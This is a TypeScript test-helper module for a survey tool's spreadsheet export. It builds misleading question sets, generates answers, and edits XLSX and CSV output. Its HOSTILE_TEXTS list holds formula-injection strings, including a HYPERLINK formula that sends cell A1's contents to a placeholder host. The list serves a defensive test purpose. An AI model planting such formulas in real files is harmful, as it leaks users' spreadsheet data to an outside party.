import {
  checkAnswer,
  checkComment,
  prepareQuestionSet,
  type AnswerValue,
  type Question,
  type QuestionSet,
} from '@reflexbogen/domain';
import fc from 'fast-check';
import { columnLetters } from '../export/xlsx-xml.js';
import { zipOf } from '../xlsform/xlsform.builder.js';
import { readXlsxParts } from '../xlsform/xlsx-parts.js';
import { isBlank } from './answer-cell.js';
import { SHEET_COLUMNS, type SheetColumnCode, type SheetFileContent } from './sheet-file.js';
import { writeSheetFile } from './write-sheet-file.js';

// For specs only.

const text = (wording: string) => ({ de: wording, en: wording });
const level = (code: string, label: string) => ({ code, label: text(label) });

/** Scales whose codes and labels read like each other, like numbers, dates and formulas. */
export const MISLEADING: QuestionSet = prepareQuestionSet('misleading', {
  year: 2018,
  revision: 3,
  scales: [
    {
      code: 'grades',
      ordered: true,
      levels: [
        level('1', '3'),
        level('2', '2'),
        level('3', '1'),
        level('01', '1'),
        level('1/2', 'MAR1'),
        level('=x', '+y'),
      ],
      boxes: {},
      polarity: 'NEUTRAL',
      missing: [{ code: '-', kind: 'REFUSED', label: text('@z') }],
    },
    {
      code: 'clash',
      ordered: false,
      levels: [level('a', 'b – c'), level('a – b', 'c'), level('A', 'c'), level('true', 'false'), level('x  y', 'x y')],
      boxes: {},
      polarity: 'NEUTRAL',
      missing: [],
    },
    {
      code: 'missing-numbers',
      ordered: false,
      levels: [],
      boxes: {},
      polarity: 'NEUTRAL',
      missing: ['1,5', '1,234', '1e5', 'five', 'ja'].map((code) => ({
        code,
        kind: 'DONT_KNOW' as const,
        label: text(code === 'five' ? '5' : 'true'),
      })),
    },
  ],
  sections: [
    {
      code: 'all',
      title: text('=All'),
      questions: [
        { code: '1e5', type: 'SCALE', scale: 'grades', text: text('-1+1'), required: true },
        { code: 'clash', type: 'CHOICE', scale: 'clash', text: text('01.05.2026'), required: false },
        { code: 'several', type: 'MULTI_CHOICE', scale: 'grades', text: text('Several'), required: false },
        { code: '3-4', type: 'NUMBER', scale: 'missing-numbers', text: text('Number'), required: false, decimals: 3 },
        { code: 'boolean', type: 'BOOLEAN', scale: 'missing-numbers', text: text('Boolean'), required: false },
        {
          code: 'words',
          type: 'TEXT',
          scale: 'missing-numbers',
          text: text('Text'),
          required: false,
          help: text('@a\nb'),
        },
      ],
    },
  ],
});

/** Texts that spreadsheets run, convert, trim or escape. */
export const HOSTILE_TEXTS: readonly string[] = [
  '=1+1',
  '=HYPERLINK("http://x.invalid/?"&A1,"click")',
  '+49 30 1',
  '-1',
  '-',
  '@SUM(A1)',
  '\t=1',
  '\n=1',
  '＝1+1',
  "'=1",
  "''",
  "'",
  '%0A=1',
  '=1\n;=2',
  '";=1;"',
  '1.5.',
  '3/4',
  'MAR1',
  '1. Mai 2026',
  '12:30',
  '0123',
  '1e5',
  '1,5',
  '12345678901234567890',
  'WAHR',
  'true',
  '_x000A_',
  '_x005F_x',
  ' a ',
  'a\n\nb',
  'five',
  'five – 5',
  'ja',
  '#study',
  'ä 🏘️ \u00a0',
  '<a>&"\'',
  ']]>',
  '\uffff',
  'x',
];

const hostileText = fc.oneof(
  fc.constantFrom(...HOSTILE_TEXTS),
  fc.string({ unit: 'grapheme', minLength: 1, maxLength: 30 }),
  fc.string({ unit: fc.constantFrom(...'=+-@\'";,\n\t |0123./xe '), minLength: 1, maxLength: 12 }),
);

function arbitraryAnswer(question: Question): fc.Arbitrary<AnswerValue | undefined> {
  const offered = question.scale.levels.filter(({ archived }) => archived !== true).map(({ code }) => code);
  const missing = question.scale.missing.map(({ code }) => code);
  const values: fc.Arbitrary<AnswerValue>[] = [];
  if (missing.length > 0) values.push(fc.constantFrom(...missing).map((code) => ({ kind: 'MISSING', missing: code })));
  if ((question.type === 'SCALE' || question.type === 'CHOICE') && offered.length > 0)
    values.push(fc.constantFrom(...offered).map((code) => ({ kind: 'LEVEL', level: code })));
  if (question.type === 'MULTI_CHOICE' && offered.length > 0)
    values.push(fc.subarray(offered, { minLength: 1 }).map((levels) => ({ kind: 'LEVELS', levels })));
  if (question.type === 'BOOLEAN') values.push(fc.boolean().map((boolean) => ({ kind: 'BOOLEAN', boolean })));
  if (question.type === 'TEXT') values.push(hostileText.map((words) => ({ kind: 'TEXT', text: words })));
  if (question.type === 'NUMBER')
    values.push(
      fc
        .tuple(
          fc.oneof(fc.constantFrom(1234, 1500, 5000, 1), fc.integer({ min: -5_000_000, max: 5_000_000 })),
          fc.constantFrom(0, 1, 3, 9),
        )
        .map(([digits, decimals]) => ({ kind: 'NUMBER', number: Number((digits / 10 ** decimals).toFixed(decimals)) })),
    );
  if (values.length === 0) return fc.constant(undefined);
  return fc.option(fc.oneof(...values), { nil: undefined, freq: 4 }).map((value) => {
    if (value === undefined) return undefined;
    const checked = checkAnswer(question, value);
    return checked.ok && !(checked.value.kind === 'TEXT' && isBlank(checked.value.text)) ? checked.value : undefined;
  });
}

/** Answers that fit, in canonical form, and comments; not to every question. */
export const arbitraryFilling = (
  questionSet: QuestionSet,
): fc.Arbitrary<Pick<SheetFileContent, 'answers' | 'comments'>> => {
  const { questions } = questionSet;
  const comment = fc.option(
    hostileText
      .map((words) => words.replaceAll('\r\n', '\n'))
      .filter((words) => !isBlank(words) && checkComment(words) === null),
    { nil: undefined },
  );
  const stated = <T>(values: readonly (T | undefined)[]): ReadonlyMap<string, T> =>
    new Map(
      questions.flatMap(({ code }, index) => {
        const value = values[index];
        return value === undefined ? [] : [[code, value] as const];
      }),
    );
  return fc
    .tuple(fc.tuple(...questions.map(arbitraryAnswer)), fc.tuple(...questions.map(() => comment)))
    .map(([answers, comments]) => ({
      answers: stated(answers),
      comments: stated(comments),
    }));
};

/** A file of a municipality whose code and name spreadsheets would like to change. */
export const aSheetContent = (questionSet: QuestionSet, more: Partial<SheetFileContent> = {}): SheetFileContent => ({
  study: 'integration-2021',
  municipality: { code: '05315000', name: '=Köln' },
  round: { code: '2018', year: 2018 },
  questionSet,
  answers: new Map(),
  comments: new Map(),
  locale: 'de',
  format: 'XLSX',
  ...more,
});

/** The parts of a workbook as texts. */
export async function partsIn(bytes: Uint8Array): Promise<Map<string, string>> {
  return new Map([...(await readXlsxParts(bytes))].map(([name, part]) => [name, part.toString('utf-8')]));
}

export const ANSWERS_PART = 'xl/worksheets/sheet1.xml';
export const IDENTITY_PART = 'xl/worksheets/sheet2.xml';

export const letterOf = (column: SheetColumnCode): string =>
  columnLetters(SHEET_COLUMNS.findIndex(({ code }) => code === column));

/** A workbook after somebody has edited its sheets. */
export async function edited(
  content: SheetFileContent,
  edit: (parts: Map<string, string>) => void,
): Promise<Uint8Array> {
  const parts = await partsIn(await writeSheetFile({ ...content, format: 'XLSX' }));
  edit(parts);
  return zipOf(parts);
}

/** A workbook in which one cell holds other XML, e.g. `<c t="b"><v>1</v></c>`; its address and format are kept unless given. */
export const withCell = (
  content: SheetFileContent,
  place: string,
  cell: string,
  part = ANSWERS_PART,
): Promise<Uint8Array> => edited(content, (parts) => setCell(parts, place, cell, part));

export function setCell(parts: Map<string, string>, place: string, cell: string, part = ANSWERS_PART): void {
  const before = parts.get(part) ?? '';
  const pattern = new RegExp(`<c r="${place}"( s="\\d+")?( t="\\w+")?(/>|>.*?</c>)`, 's');
  if (!pattern.test(before)) throw new Error(`There is no cell ${place}.`);
  parts.set(
    part,
    before.replace(pattern, (_, style: string | undefined) =>
      cell.replace('<c', `<c r="${place}"${cell.includes(' s=') ? '' : (style ?? '')}`),
    ),
  );
}

/** A CSV file in which lines are replaced. */
export async function editedCsv(
  content: SheetFileContent,
  edit: (lines: readonly string[]) => readonly string[],
): Promise<Uint8Array> {
  const whole = Buffer.from(await writeSheetFile({ ...content, format: 'CSV' })).toString('utf-8');
  return Buffer.from(edit(whole.split('\r\n')).join('\r\n'));
}
